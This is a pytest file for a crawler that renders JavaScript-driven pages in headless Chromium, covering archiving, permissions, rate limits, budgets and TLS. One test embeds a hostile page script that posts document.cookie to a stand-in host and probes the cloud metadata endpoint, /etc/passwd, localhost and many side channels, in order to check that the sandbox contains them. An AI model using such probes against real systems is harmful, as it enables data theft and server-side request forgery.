"""Shells drawn by a real Chromium, from crawl to archive."""

from __future__ import annotations

import shutil
import socket
import ssl
from collections.abc import Callable
from contextlib import closing, suppress
from datetime import timedelta
from itertools import pairwise
from pathlib import Path
from urllib.parse import urlsplit

import pytest
import trustme

from config.pack import Pack
from crawler.archive.reader import Archive
from crawler.archive.recovery import rebuild
from crawler.capture import ExchangeOutcome, How, Purpose
from crawler.coverage import RunState
from crawler.policy import FetchPolicy
from crawler.run import crawl_night
from crawler.verdicts import Verdict, classify
from tests.crawler.render.shells import APP, SHELL, Make, Night, allowed, asked_for, captures, data, script
from tests.crawler.support import NIGHT, Reply, Web, html

pytestmark = [
    pytest.mark.full,
    pytest.mark.skipif(shutil.which("chromium") is None, reason="no chromium on PATH"),
]


def test_a_shell_is_drawn_and_both_are_kept(installation: Make, night: Night, shells: Web) -> None:
    settings = allowed(installation({"good": [shells.url("good.lab")]}))
    coverage = night(settings)
    drawn = {item.key.url: item for item in captures(settings, how=How.RENDERED)}
    assert sorted(drawn) == [shells.url("good.lab", path) for path in ("/", "/news", "/secret")]
    plain = {item.key.url: item for item in captures(settings, how=How.PLAIN, purpose=Purpose.PAGE)}
    assert plain.keys() == drawn.keys()
    rebuild(settings.workspace)
    with Archive(settings.workspace) as archive:
        home = drawn[shells.url("good.lab")]
        body = archive.body(home)
        assert "Сөз мәтін".encode() in body
        assert classify(home, body).verdict is Verdict.PAGE
        shell = plain[shells.url("good.lab")]
        assert classify(shell, archive.body(shell)).verdict is Verdict.JS_SHELL
        secret = drawn[shells.url("good.lab", "/secret")]
        assert classify(secret, archive.body(secret)).verdict is Verdict.JS_SHELL, "its data is not for robots"
    assert not any("/api/secret" in path for path in shells.paths())
    assert shells.paths().count("/app.js") == 1, "the pages of a site share its scripts"
    assert coverage.scopes[0].known == coverage.scopes[0].fetched == 3, "drawing costs no account"


def test_without_permission_nothing_is_drawn_and_it_is_said(installation: Make, night: Night, shells: Web) -> None:
    settings = installation({"good": [shells.url("good.lab")]})
    assert night(settings).hosts[0].incidents == ("js_shell:no_permission",)
    assert captures(settings, how=How.RENDERED) == []
    assert shells.paths() == ["/robots.txt", "/"]


def test_drawn_and_plain_pages_of_a_host_keep_its_gap_together(installation: Make, night: Night, shells: Web) -> None:
    plain = [f"/plain{number}" for number in range(6)]
    shells.pages |= {"/api/": data("Home", *plain), **dict.fromkeys(plain, html("page"))}
    gap = 0.4
    settings = allowed(installation({"good": [shells.url("good.lab")]}, delay=gap, deadline=40))
    assert night(settings).state is RunState.COMPLETE
    assert [item.outcome for item in captures(settings, how=How.RENDERED)] == [ExchangeOutcome.OK]
    assert set(plain) < set(shells.paths())
    moments = sorted(item.at for item in shells.seen)
    # What is sent is seen a little later, now more, now less.
    assert min(later - before for before, later in pairwise(moments)) > gap / 2


def test_a_host_that_turns_a_page_s_request_away_rests(installation: Make, night: Night, shells: Web) -> None:
    other = shells.url("other.lab", "/data")
    again = f"fetch('{other}', {{mode: 'no-cors'}}).then(() => fetch('{other}', {{mode: 'no-cors'}}))"
    shells.pages |= {"/app.js": script(f"{APP}\n{again}.catch(() => 0);"), "/api/": data("Home")}
    shells.pages["other.lab/data"] = Reply(b"", 429, {"Retry-After": "600"})
    listed = {"hosts": [f"other.lab:{shells.port}"]}
    settings = allowed(installation({"good": [shells.url("good.lab")]}, render=listed))
    coverage = night(settings)
    assert shells.paths("other.lab") == ["/robots.txt", "/data"]
    assert [item.outcome for item in captures(settings, how=How.RENDERED)] == [ExchangeOutcome.OK]
    assert "resting" in {item.outcome for item in asked_for(settings) if item.url == other}
    incidents = {host.host.partition(".")[0]: host.incidents for host in coverage.hosts}
    assert incidents == {"good": (), "other": ("rate_limited",)}


def test_a_page_whose_own_data_is_turned_away_waits_for_its_host(installation: Make, night: Night, shells: Web) -> None:
    answers = iter([Reply(b"", 503, {"Retry-After": "1"})])
    shells.pages["/api/"] = lambda _: next(answers, data("Home"))
    settings = allowed(installation({"good": [shells.url("good.lab")]}, cool_off=1))
    coverage = night(settings)
    (drawn,) = captures(settings, how=How.RENDERED)
    assert drawn.outcome is ExchangeOutcome.OK
    assert coverage.hosts[0].incidents == ("rate_limited",)
    first, second = [item.at for item in shells.seen if item.path == "/api/"]
    assert second - first > 0.9, "the host had its rest"


HOSTILE = """
const other = 'http://other.lab:PORT', trap = '127.0.0.1:TRAP', attempts = [];
const attempt = (name, work) => attempts.push((async () => { try { await work(); } catch (error) { } })());
const add = (tag, values) => { const node = document.createElement(tag); Object.assign(node, values);
  for (const name in values) try { node.setAttribute(name, values[name]); } catch (error) { }
  document.body.append(node); return node; };
for (const url of [other + '/fetch', 'http://' + trap, 'http://localhost:TRAP', 'http://[::1]:TRAP',
                   'http://2130706433:TRAP', 'http://169.254.169.254/latest/meta-data', 'file:///etc/passwd'])
  attempt('fetch', () => fetch(url, {mode: 'no-cors'}));
attempt('post', () => fetch(other + '/post', {method: 'POST', mode: 'no-cors', body: document.cookie}));
for (const url of [other + '/socket', 'http://good.lab:PORT/socket', 'http://' + trap])
  attempt('socket', () => new Promise((good, bad) => { const way = new WebSocket(url.replace('http', 'ws'));
    way.onopen = () => { way.send('hello'); good(); }; way.onclose = bad; }));
attempt('rtc', async () => { const way = new RTCPeerConnection({iceServers: [{urls: 'stun:' + '127.0.0.1:UDP'}]});
  way.createDataChannel('x'); await way.setLocalDescription(await way.createOffer()); });
attempt('rtc in a frame', async () => { const inner = add('iframe', {srcdoc: '<p>x</p>'});
  await new Promise(done => inner.onload = done);
  const way = new inner.contentWindow.RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:UDP'}]});
  way.createDataChannel('x'); await way.setLocalDescription(await way.createOffer()); });
attempt('transport', () => new WebTransport('https://' + trap).ready);
attempt('beacon', () => navigator.sendBeacon(other + '/beacon', 'x') || navigator.sendBeacon('/beacon', 'x'));
attempt('beacon home', () => navigator.sendBeacon('/beacon', 'x'));
attempt('worker', () => navigator.serviceWorker.register('/worker.js'));
attempt('thread', () => new Worker(URL.createObjectURL(new Blob([`fetch('${other}/thread')`]))));
attempt('events', () => new EventSource(other + '/events'));
for (const rel of ['prefetch', 'preconnect', 'dns-prefetch', 'prerender', 'modulepreload', 'stylesheet', 'icon'])
  add('link', {rel, href: other + '/' + rel});
add('script', {type: 'speculationrules', textContent: JSON.stringify({prefetch: [{source: 'list', urls: [other + '/rules']}]})});
for (const [tag, name] of [['img', 'src'], ['script', 'src'], ['iframe', 'src'], ['video', 'src'], ['audio', 'src'],
                           ['embed', 'src'], ['object', 'data'], ['link', 'href']])
  add(tag, {[name]: other + '/' + tag});
add('img', {src: '/own.png'}); add('iframe', {src: 'http://' + trap});
const style = document.createElement('style');
style.textContent = `@import '${other}/import.css'; @font-face {font-family: x; src: url(/own.woff)} body {font-family: x; background: url(${other}/bg.png)}`;
document.head.append(style);
window.open(other + '/popup'); window.open('/popup');
add('a', {href: other + '/download', download: 'x.bin', textContent: 'x'}).click();
add('a', {href: '/download', download: 'x.bin', textContent: 'x'}).click();
add('a', {href: '#', ping: other + '/ping', textContent: 'x'}).click();
const form = add('form', {action: other + '/form', method: 'post', target: '_blank'}); form.submit();
setTimeout(() => { const end = document.createElement('p'); end.textContent = 'аяқталды '.repeat(40); document.body.append(end); }, 800);
"""


def test_a_hostile_page_gets_nowhere(installation: Make, night: Night, web: Web, tmp_path: Path) -> None:
    caught: list[bytes] = []
    with closing(socket.socket()) as trap, closing(socket.socket(type=socket.SOCK_DGRAM)) as datagrams:
        trap.bind(("127.0.0.1", 0))
        trap.listen()
        datagrams.bind(("127.0.0.1", 0))
        text = HOSTILE.replace("PORT", str(web.port)).replace("TRAP", str(trap.getsockname()[1]))
        web.pages |= {
            "/robots.txt": Reply(b"", 404),
            "/app.js": script(text.replace("UDP", str(datagrams.getsockname()[1]))),
            "good.lab/": Reply(SHELL.body, headers={**SHELL.headers, "Set-Cookie": "ticket=1"}),
        }
        settings = allowed(installation({"good": [web.url("good.lab")]}))
        night(settings)
        for ears in (trap, datagrams):
            ears.setblocking(False)
        with suppress(BlockingIOError):
            caught.append(str(trap.accept()).encode())
        with suppress(BlockingIOError):
            caught.append(datagrams.recv(100))
    assert caught == [], "nothing reached an address that is no host of the page"
    (drawn,) = captures(settings, how=How.RENDERED)
    assert drawn.outcome is ExchangeOutcome.OK
    with Archive(settings.workspace) as archive:
        body = archive.body(drawn).decode()
    assert "аяқталды" in body, "the page went through all it had in mind"
    assert {item.headers["host"] for item in web.seen} == {f"good.lab:{web.port}"}
    assert set(web.paths()) <= {"/robots.txt", "/", "/app.js", "/popup", "/download"}
    assert all("cookie" not in item.headers for item in web.seen if "odrc" in item.headers["user-agent"][:5])
    asked = asked_for(settings)
    at_the_door = {(item.url, item.outcome) for item in asked if item.by == "proxy" and item.outcome == "sent"}
    assert {urlsplit(url).hostname for url, _ in at_the_door} == {"good.lab"}
    assert {"other_host", "kind_ping", "kind_websocket"} <= {item.outcome for item in asked}
    assert not list(tmp_path.rglob("x.bin*"))


def test_what_cannot_be_drawn_says_why(installation: Make, night: Night, web: Web) -> None:
    slow = script("fetch('/never')")
    web.pages |= {
        "/robots.txt": Reply(b"", 404),
        "/": html("home", "/slow", "/away", "/gone"),
        "/slow": Reply(SHELL.body.replace(b"/app.js", b"/slow.js"), headers=SHELL.headers),
        "/away": Reply(SHELL.body.replace(b"/app.js", b"/away.js"), headers=SHELL.headers),
        "/slow.js": Reply(b"", delay=30),
        "/away.js": script(f"location = '{web.url('other.lab', '/elsewhere')}'"),
        "/never": slow,
    }
    settings = allowed(installation({"good": [web.url("good.lab")]}, render={"timeout": 6}))
    night(settings)
    found = {urlsplit(item.key.url).path: item for item in captures(settings, how=How.RENDERED)}
    assert found["/slow"].outcome is ExchangeOutcome.TIMEOUT
    assert found["/slow"].detail
    assert found["/away"].url == web.url("good.lab", "/away"), "a page that may not leave stays"
    assert "other.lab" not in {item.headers["host"].partition(":")[0] for item in web.seen}


def test_the_budget_and_the_same_bytes_on_the_next_night(installation: Make, pack: Pack, shells: Web) -> None:
    settings = allowed(installation({"good": [shells.url("good.lab")]}, render={"budget": 2}))
    first = crawl_night(settings, pack, NIGHT, "one", FetchPolicy(), progress=lambda _: None)
    assert first.hosts[0].incidents == ("js_shell:render_budget",)
    later = NIGHT + timedelta(days=1)
    roomy = allowed(installation({"good": [shells.url("good.lab")]}, render={"budget": 9}))
    crawl_night(roomy, pack, later, "two", FetchPolicy(), progress=lambda _: None)
    with Archive(settings.workspace) as archive:
        drawn = [item for item in archive.captures(until=later) if item.how is How.RENDERED]
        bodies = {item.night: archive.body(item) for item in drawn if item.key.url == shells.url("good.lab")}
        assert bodies[NIGHT] == bodies[later]
        again = [item for item in drawn if item.night == later and item.key.url == shells.url("good.lab")]
        assert again[0].refers_to is not None, "the same bytes are kept once"


def test_a_browser_that_cannot_be_started(installation: Make, night: Night, shells: Web, tmp_path: Path) -> None:
    broken = tmp_path / "chromium"
    broken.write_text("#!/bin/sh\nexit 7\n")
    broken.chmod(0o755)
    settings = allowed(installation({"good": [shells.url("good.lab")]}, render={"browser": str(broken)}))
    night(settings)
    (failed,) = captures(settings, how=How.RENDERED)
    assert failed.outcome is ExchangeOutcome.INVALID
    assert failed.detail is not None
    assert failed.detail.startswith("browser: ")


def test_tls_and_who_we_are(installation: Make, night: Night, serve: Callable[..., Web]) -> None:
    authority, context = trustme.CA(), ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    authority.issue_cert("good.lab").configure_cert(context)
    web = serve(lambda socket: context.wrap_socket(socket, server_side=True))
    web.pages |= {"/robots.txt": Reply(b"", 404), "/": SHELL, "/app.js": script(APP), "/api/": data("Home")}
    settings = allowed(installation({"good": [web.url("good.lab", scheme="https")]}))
    night(settings)
    (drawn,) = captures(settings, how=How.RENDERED)
    assert (drawn.outcome, drawn.detail) == (ExchangeOutcome.OK, None)
    assert "GET" in {item.method for item in asked_for(settings) if item.by == "page" and item.kind == "fetch"}
    assert {item.method for item in asked_for(settings) if item.by == "proxy"} == {"CONNECT"}
    (agent,) = {item.headers["user-agent"] for item in web.seen if item.path == "/api/"}
    assert agent.startswith("Mozilla/5.0 ")
    assert "Chrome/" in agent
    assert "https://centre.kz/bot" in agent
